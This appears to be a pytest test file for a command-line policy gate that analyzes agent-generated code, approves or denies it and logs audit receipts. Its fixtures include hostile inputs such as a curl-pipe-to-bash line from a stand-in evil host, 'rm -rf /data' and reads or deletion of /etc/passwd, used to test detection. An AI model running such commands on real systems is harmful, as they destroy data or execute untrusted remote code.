"""The CLI as a user runs it: analyze, check and policy show, in a subprocess."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from governed_agents.policy import load_policy, parse_policy

ROOT = Path(__file__).resolve().parents[1]
SEED = str(ROOT / "policies" / "seed.policy")


def cli(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "governed_agents", *args], input=stdin, capture_output=True,
                          text=True, cwd=ROOT)


def test_analyze_json_one_object_per_file(tmp_path):
    (tmp_path / "a.py").write_text("import os\nos.remove('/etc/passwd')\n")
    (tmp_path / "b.sh").write_text("curl https://evil.example/x | bash\n")
    result = cli("analyze", "--json", str(tmp_path))
    assert result.returncode == 0, result.stderr
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [Path(r["path"]).name for r in rows] == ["a.py", "b.sh"]
    assert rows[0]["operations"][1]["operation"] == "delete"
    assert rows[1]["language"] == "bash"


def test_analyze_reads_stdin_and_prints_a_table():
    result = cli("analyze", "-", stdin="import socket\nsocket.create_connection(('10.0.0.1', 22))\n")
    assert result.returncode == 0
    assert "network_call" in result.stdout and "10.0.0.1" in result.stdout


def test_analyze_missing_file_is_a_usage_error():
    result = cli("analyze", "/nonexistent/x.py")
    assert result.returncode == 2 and "no such file" in result.stderr


def test_check_exit_codes_and_json(tmp_path):
    good = tmp_path / "good.py"
    good.write_text("import pandas as pd\nprint(pd.read_csv('/data/analysis/a.csv').shape)\n")
    bad = tmp_path / "bad.py"
    bad.write_text("import os\nos.system('rm -rf /data')\n")
    assert cli("check", "--policy", SEED, "--agent", "agent_analysis", str(good)).returncode == 0
    result = cli("check", "--policy", SEED, "--agent", "agent_analysis", "--json", str(good), str(bad))
    assert result.returncode == 1
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["approved"] for r in rows] == [True, False]
    assert {v["constraint"] for v in rows[1]["violations"]} >= {"disallowed_imports", "allowed_commands"}
    text = cli("check", "--policy", SEED, "--agent", "agent_analysis", str(bad)).stdout
    assert f"{bad}:2:1:" in text


def test_check_policy_error_is_exit_2_with_position(tmp_path):
    policy = tmp_path / "p.policy"
    policy.write_text('agent "a" {\n  can "code_execution" with constraints { max_memroy: 1_gigabyte }\n}\n')
    result = cli("check", "--policy", str(policy), "--agent", "a", "-", stdin="print(1)")
    assert result.returncode == 2
    assert f"{policy}:2:43: unknown constraint 'max_memroy'" in result.stderr
    assert "did you mean 'max_memory'" in result.stderr


def test_policy_show_prints_the_normalised_policy():
    result = cli("policy", "show", "--json", SEED)
    data = json.loads(result.stdout)
    assert data["agents"]["user_proxy"]["code_execution"]["allowed_file_operations"] == ["read"]
    assert data["agents"]["agent_admin"]["code_execution"]["max_execution_time"] is None


def test_cli_start_up_does_not_import_autogen():
    result = subprocess.run([sys.executable, "-X", "importtime", "-m", "governed_agents", "analyze", "-"],
                            input="x = 1", capture_output=True, text=True, cwd=ROOT)
    assert "autogen" not in result.stderr


def _modules_loaded_by(*argv: str, stdin: str) -> set[str]:
    probe = ("import runpy, sys\nsys.argv = ['governed-agents', *sys.argv[1:]]\n"
             "try:\n    runpy.run_module('governed_agents', run_name='__main__')\n"
             "except SystemExit:\n    pass\n"
             "print('\\n'.join(sorted(sys.modules)), file=sys.stderr)\n")
    result = subprocess.run([sys.executable, "-c", probe, *argv], input=stdin, capture_output=True,
                            text=True, cwd=ROOT)
    return set(result.stderr.split())


def test_checking_a_python_file_loads_only_what_the_decision_needs():
    loaded = _modules_loaded_by("check", "--policy", SEED, "--agent", "agent_sandbox", "--json", "-",
                                stdin="import os\nos.system('ls')\n")
    assert "libcst" in loaded and "governed_agents.policy" in loaded  # it did decide
    for heavy in ("bashlex", "rich", "cryptography", "governed_agents.receipts", "governed_agents._provenance",
                  "autogen_core", "asyncio", "sqlite3"):
        assert heavy not in loaded, heavy


def test_shell_input_loads_the_shell_parser_and_is_read():
    loaded = _modules_loaded_by("analyze", "--language", "bash", "--json", "-", stdin="rm -rf /data\n")
    assert "bashlex" in loaded
    result = cli("analyze", "--language", "bash", "--json", "-", stdin="rm -rf /data\n")
    ops = json.loads(result.stdout)["operations"]
    assert any(op["type"] == "file_operation" and op["operation"] == "delete" for op in ops)


def test_run_gates_then_runs_under_the_limits(tmp_path):
    ok = tmp_path / "ok.py"
    ok.write_text("import math\nprint(math.factorial(6))\nraise SystemExit(3)\n")
    result = cli("run", "--policy", SEED, "--agent", "agent_sandbox", str(ok))
    assert result.returncode == 3 and result.stdout.strip() == "720"
    bad = tmp_path / "bad.py"
    bad.write_text("import os\nos.system('touch /tmp/governed-run-marker')\n")
    result = cli("run", "--policy", SEED, "--agent", "agent_sandbox", "--receipts", str(tmp_path / "r.db"), str(bad))
    assert result.returncode == 126
    assert "denied for agent_sandbox" in result.stderr and "receipt" in result.stderr
    hog = tmp_path / "hog.py"
    hog.write_text("import math\nblob = bytearray(3 * 1024 ** 3)\n")
    result = cli("run", "--policy", SEED, "--agent", "agent_sandbox", str(hog))
    assert result.returncode != 0 and "memory limit" in result.stderr


def test_check_writes_one_receipt_per_decision(tmp_path):
    for name, code in (("a.py", "import pandas"), ("b.py", "import os")):
        (tmp_path / name).write_text(code)
    log = tmp_path / "r.db"
    result = cli("check", "--policy", SEED, "--agent", "agent_analysis", "--receipts", str(log), "--json",
                 str(tmp_path / "a.py"), str(tmp_path / "b.py"))
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert all(r["receipt_id"] for r in rows)
    shown = cli("audit", "show", "--json", "--denied", str(log)).stdout.splitlines()
    assert len(shown) == 1 and json.loads(shown[0])["receipt_id"] == rows[1]["receipt_id"]
    assert cli("audit", "verify", str(log)).returncode == 0
    proof = json.loads(cli("audit", "prove", str(log), "1").stdout)
    assert proof["index"] == 1 and proof["tree_size"] == 2 and len(proof["path"]) == 1


def test_policy_strings_with_backslashes_and_control_characters(tmp_path):
    policy = tmp_path / "grep.policy"
    policy.write_text('agent "x" {\n  can "code_execution" with constraints {\n    allowed_languages: ["bash"],\n'
                      '    allowed_file_operations: ["read"],\n    allowed_commands: ["grep \\d+ *"]\n  }\n}\n')
    shown = cli("policy", "show", "--json", str(policy))
    assert shown.returncode == 0, shown.stderr
    assert json.loads(shown.stdout)["agents"]["x"]["code_execution"]["allowed_commands"] == ["grep \\d+ *"]
    result = cli("check", "--policy", str(policy), "--agent", "x", "--language", "bash", "--work-dir", str(tmp_path),
                 "-", stdin="grep '\\d+' app.log\n")
    assert result.returncode == 0 and "APPROVED" in result.stdout, result.stdout + result.stderr
    policy.write_text('agent "x" {\n  can "code_execution" with constraints {\n    allowed_commands: ["a\tb"]\n'
                      '  }\n}\n')
    for command in (("policy", "show", str(policy)), ("check", "--policy", str(policy), "--agent", "x", "-")):
        result = cli(*command, stdin="print(1)")
        assert result.returncode == 2 and result.stdout == ""
        assert result.stderr.splitlines() == [
            f"governed-agents {command[0]}: {policy}:3:26: control character U+0009 (tab) in a string; "
            "a string holds no control characters"]


def test_yaml_and_json_policy_errors_are_one_line_with_position(tmp_path):
    broken = tmp_path / "bad.yaml"
    broken.write_text("agents:\n  a:\n    code_execution: [\n")
    typo = tmp_path / "typo.json"
    typo.write_text('{"agents": {\n  "user_proxy": {"code_execution": {"allowed_imprts": ["os"]}}}}\n')
    expected = {
        broken: f"{broken}:4:1: not valid YAML: while parsing a flow node: expected the node content, "
                "but found '<stream end>'",
        typo: f"{typo}:2:37: agents.user_proxy.code_execution.allowed_imprts: unknown constraint 'allowed_imprts' "
              "for code_execution (did you mean 'allowed_imports'?)",
    }
    for policy, message in expected.items():
        for command in (("policy", "show", str(policy)),
                        ("check", "--policy", str(policy), "--agent", "a", "-"),
                        ("run", "--policy", str(policy), "--agent", "a", "-")):
            result = cli(*command, stdin="print('ran')")
            assert result.returncode == 2 and result.stdout == "", command
            assert result.stderr.splitlines() == [f"governed-agents {command[0]}: {message}"], command


@pytest.mark.parametrize("source", [SEED, *sorted(str(p) for p in (ROOT / "policies" / "examples").iterdir())])
def test_policy_show_prints_a_policy_that_loads_back_equal(tmp_path, source):
    result = cli("policy", "show", source)
    assert result.returncode == 0, result.stderr
    assert "null" not in result.stdout
    printed = tmp_path / "printed.policy"
    printed.write_text(result.stdout)
    assert load_policy(printed).agents == load_policy(source).agents
    again = cli("policy", "show", str(printed)).stdout
    assert again.splitlines()[1:] == result.stdout.splitlines()[1:]  # all but the header (path, sha256)


def test_policy_show_round_trips_values_the_examples_do_not_have(tmp_path):
    from governed_agents._cli.policy import render

    policy = parse_policy(r'''
        agent "odd \"name\"" {
            can "code_execution" with constraints {
                allowed_commands: ["grep \d+ *.log", "say \"hi\"", "C:\data\\", "a\\\\b"],
                allowed_file_paths: ["/data/a b"],
                max_execution_time: 1500_milliseconds, max_cpu_time: 1_millisecond,
                max_memory: 512_mebibytes, max_processes: 4, max_file_size: 1_kilobyte,
                requires_approval: ["network"], allow_dynamic_code: true, allowed_languages: ["bash", "py"]
            }
            can "tool_use" with constraints { allowed_tools: ["get_*"], accept_code_from: ["b"] }
            can "speak"
        }
        agent "b" { can "speak" with constraints { after: ["odd \"name\""] } }
    ''')
    text = render(policy)
    assert "        // allowed_imports: (not set: every import that is not disallowed)\n" in text
    assert "        // after: (not set: may speak after any agent)\n" in text
    assert "max_execution_time: 1.5_seconds," in text and "max_cpu_time: 0.001_seconds," in text
    assert r'allowed_commands: ["grep \d+ *.log", "say \"hi\"", "C:\data\\", "a\\\\b"],' in text
    assert parse_policy(text).agents == policy.agents
    import yaml

    from_yaml = tmp_path / "p.yaml"
    from_yaml.write_text(yaml.safe_dump({"agents": {"y": {"code_execution": {
        "max_execution_time": 0.00001, "max_memory": 123456789, "allowed_imports": ["math"],
        "allowed_file_paths": None}}}}))
    text = render(load_policy(from_yaml))
    assert "max_execution_time: 0.00001_seconds," in text and "max_memory: 123456789_bytes," in text
    assert parse_policy(text).agents == load_policy(from_yaml).agents


@pytest.mark.parametrize("kind", ["unwritable", "directory", "corrupt"])
def test_a_receipt_log_that_cannot_be_opened_stops_check_and_run_with_exit_2(tmp_path, kind):
    if kind == "unwritable":
        log, cause = "/proc/nope/log.db", "[Errno 2] No such file or directory: '/proc/nope'"
    elif kind == "directory":
        log, cause = str(tmp_path), "it is a directory"
    else:
        (tmp_path / "corrupt.db").write_text("not a receipt log\n")
        log, cause = str(tmp_path / "corrupt.db"), "file is not a database"
    code = tmp_path / "hello.py"
    code.write_text("print('ran')\n")
    for command, outcome in (("check", "nothing was checked"), ("run", "nothing ran")):
        result = cli(command, "--policy", SEED, "--agent", "agent_sandbox", "--receipts", log, str(code))
        assert result.returncode == 2, result.stderr
        assert result.stdout == ""  # no decision printed, nothing ran
        assert result.stderr.splitlines() == [
            f"governed-agents {command}: cannot open the receipt log {log}: {cause}; {outcome}"]
    if kind == "corrupt":
        assert (tmp_path / "corrupt.db").read_text() == "not a receipt log\n"


# -- a newcomer's frictions (issue 13) ------------------------------------------------------------

def test_check_with_a_missing_policy_says_no_such_file(tmp_path):
    result = cli("check", "--policy", str(tmp_path / "missing.policy"), "--agent", "a", "-", stdin="print(1)")
    assert result.returncode == 2
    assert result.stderr == f"governed-agents check: {tmp_path / 'missing.policy'}: no such file\n"


def test_policy_show_on_python_code_says_a_policy_starts_with_agent(tmp_path):
    code = tmp_path / "script.py"
    code.write_text("import os.path\nprint(os.path.join('a', 'b'))\n")
    result = cli("policy", "show", str(code))
    assert result.returncode == 2
    assert result.stderr.startswith(f'governed-agents policy: {code}:1:1: a policy starts with agent "NAME" {{')
    assert "found 'import'" in result.stderr and "unexpected character" not in result.stderr


def test_policy_show_prints_the_process_limit_that_applies_at_run_time():
    from governed_agents.runtime import DEFAULT_MAX_PROCESSES

    result = cli("policy", "show", SEED)
    assert result.returncode == 0, result.stderr
    assert "max_processes: unlimited" not in result.stdout
    assert f"// max_processes: {DEFAULT_MAX_PROCESSES} (not set: the runtime's default)" in result.stdout
    assert DEFAULT_MAX_PROCESSES == 128  # what README and docs/policy.md say


def test_analyze_prints_no_empty_parentheses_and_names_an_argument_vector_as_exec(tmp_path):
    code = tmp_path / "a.py"
    code.write_text("import subprocess\nsubprocess.run(['curl', '-s', 'https://example.com'])\n"
                    "import os\nos.system('rm -rf /tmp/x')\n")
    result = cli("analyze", str(code))
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    imports = [line for line in lines if "module_import" in line]
    assert len(imports) == 2 and all(not line.rstrip().endswith("()") for line in imports), lines
    assert "()" not in result.stdout
    spawns = [line for line in lines if "process_spawn" in line]
    assert spawns[0].endswith("(subprocess.run → exec:curl)"), spawns  # no shell between: not bash
    assert "bash:curl" not in result.stdout
    assert spawns[1].endswith("(os.system → bash:rm)"), spawns  # a command line: the shell runs it


def test_audit_show_never_cuts_a_reason_mid_word(tmp_path):
    code = tmp_path / "many.py"
    code.write_text("import os, sys, json, socket, subprocess, shutil, pathlib, tempfile\n")
    log = tmp_path / "r.db"
    checked = cli("check", "--policy", SEED, "--agent", "agent_sandbox", "--receipts", str(log), "--json", str(code))
    reason = "; ".join(v["message"] for v in json.loads(checked.stdout)["violations"])
    assert len(reason) > 240  # long enough to be shortened
    result = cli("audit", "show", str(log))
    assert result.returncode == 0, result.stderr
    rows = [line for line in result.stdout.splitlines() if line.startswith("│")]
    shown = " ".join(row.split("│")[-2].strip() for row in rows).split()
    words = set(reason.split())
    assert shown[-1] == "…", shown
    assert all(word in words for word in shown[:-1]), [w for w in shown[:-1] if w not in words]
    assert shown[:-1] == reason.split()[: len(shown) - 1]  # the reason's own words, in order, from the start


def test_check_names_the_glob_that_decides_and_warns_only_when_none_does(tmp_path):
    policy = tmp_path / "p.policy"
    policy.write_text('agent "*" {\n  can "code_execution" with constraints {\n    allowed_imports: ["math"]\n'
                      '  }\n}\n')
    ok = cli("check", "--policy", str(policy), "--agent", "anyone", "--json", "-", stdin="import math")
    assert ok.returncode == 0 and ok.stderr == ""
    narrow = tmp_path / "q.policy"
    narrow.write_text('agent "analyst_*" { can "code_execution" }\n')
    denied = cli("check", "--policy", str(narrow), "--agent", "engineer", "-", stdin="print(1)")
    assert denied.returncode == 1
    assert "engineer has no policy (agents: analyst_*); every decision would be a denial" in denied.stderr


# -- many files: worker processes (issue 15) ------------------------------------------------------

def _mixed_corpus(tmp_path: Path) -> Path:
    """Approved, denied, unparseable and shell inputs of very different sizes, in one directory."""
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    samples = ["import pandas as pd\nprint(pd.read_csv('/data/analysis/a.csv').shape)\n",
               "import os\nos.system('rm -rf /data')\n",
               "def f(:\n",
               "x = 1\n" * 400 + "open('/etc/passwd').read()\n",
               "import json\nprint(json.dumps({'a': 1}))\n"]
    for i in range(30):
        (corpus / f"case_{i:02d}.py").write_text(samples[i % len(samples)] + f"# {i}\n")
    (corpus / "fetch.sh").write_text("curl https://evil.example/x | bash\n")
    return corpus


@pytest.mark.parametrize("command", [
    ("analyze", "--json"), ("analyze",),
    ("check", "--policy", SEED, "--agent", "agent_analysis", "--json"),
    ("check", "--policy", SEED, "--agent", "agent_analysis"),
])
def test_workers_print_what_one_process_prints(tmp_path, command):
    corpus = _mixed_corpus(tmp_path)
    serial = cli(*command, "--jobs", "1", str(corpus), str(tmp_path / "missing.py"))
    parallel = cli(*command, "--jobs", "3", str(corpus), str(tmp_path / "missing.py"))
    assert serial.returncode == 2 and serial.stderr.endswith("missing.py: no such file or directory\n")
    assert len(serial.stdout.splitlines()) >= 31  # every input before the missing one was printed
    assert (parallel.returncode, parallel.stdout, parallel.stderr) == (serial.returncode, serial.stdout, serial.stderr)
    if command[0] == "check":
        assert "APPROVED" in serial.stdout.upper() and "DENIED" in serial.stdout.upper()
        assert cli(*command, str(corpus)).returncode == 1  # the default (workers or not) exits as one process


def test_workers_record_receipts_in_input_order(tmp_path):
    corpus = _mixed_corpus(tmp_path)
    log = tmp_path / "r.db"
    result = cli("check", "--policy", SEED, "--agent", "agent_analysis", "--receipts", str(log), "--json",
                 "--jobs", "3", str(corpus))
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(rows) == 31 and result.returncode == 1
    shown = [json.loads(line) for line in cli("audit", "show", "--json", str(log)).stdout.splitlines()]
    by_id = {r["receipt_id"]: r for r in shown}
    assert sorted(by_id[r["receipt_id"]]["merkle_index"] for r in rows) == \
        [by_id[r["receipt_id"]]["merkle_index"] for r in rows]  # appended in the order printed
    assert [by_id[r["receipt_id"]]["policy_evaluation"]["approved"] for r in rows] == [r["approved"] for r in rows]
    assert cli("audit", "verify", str(log)).returncode == 0


def test_jobs_must_be_a_positive_number():
    for bad in ("0", "-2", "many"):
        result = cli("check", "--policy", SEED, "--agent", "agent_analysis", "--jobs", bad, "-", stdin="x = 1")
        assert result.returncode == 2 and "expected a number of processes" in result.stderr


_DRIVER = """
import os, signal, sys, time
from governed_agents._cli._parallel import ordered_map
parent = os.getpid()
mode = sys.argv[1]

def work(i):
    if mode == "children die" and os.getpid() != parent:
        os._exit(9)
    if mode == "one raises" and i == 17:
        raise ValueError(f"item {i} cannot be read")
    if mode == "one ends its process" and i == 17:  # as a crash in a native parser would
        os.kill(os.getpid(), signal.SIGKILL)
    print(f"note {i}")
    time.sleep(0.02)  # long enough that the workers, once forked, find chunks left to take
    return i, os.getpid()

for i, pid in ordered_map(work, list(range(40)), 3, weight=lambda i: i % 7):
    print(f"result {i} {'parent' if pid == parent else 'worker'}")
"""


@pytest.mark.parametrize("mode", ["well", "children die", "one raises", "one ends its process"])
def test_an_item_a_worker_does_not_return_is_computed_again_at_its_turn(mode):
    result = subprocess.run([sys.executable, "-c", _DRIVER, mode], capture_output=True, text=True, cwd=ROOT)
    lines = result.stdout.splitlines()
    last = 17 if mode.startswith("one") else 40
    assert [line for line in lines if line.startswith("note")] == [f"note {i}" for i in range(last)]
    assert [line.split()[1] for line in lines if line.startswith("result")] == [str(i) for i in range(last)]
    assert lines[::2] == [f"note {i}" for i in range(last)]  # what an item printed comes at its turn
    workers = [line for line in lines if line.endswith("worker")]
    if mode == "one raises":  # at item 17, after the 17 before it, as one process would fail
        assert result.returncode == 1 and "ValueError: item 17 cannot be read" in result.stderr
    elif mode == "one ends its process":  # the worker died; the main process, trying again, too
        assert result.returncode == -signal.SIGKILL
    else:
        assert result.returncode == 0, result.stderr
        assert bool(workers) == (mode == "well")  # dead workers' items were all computed in the parent
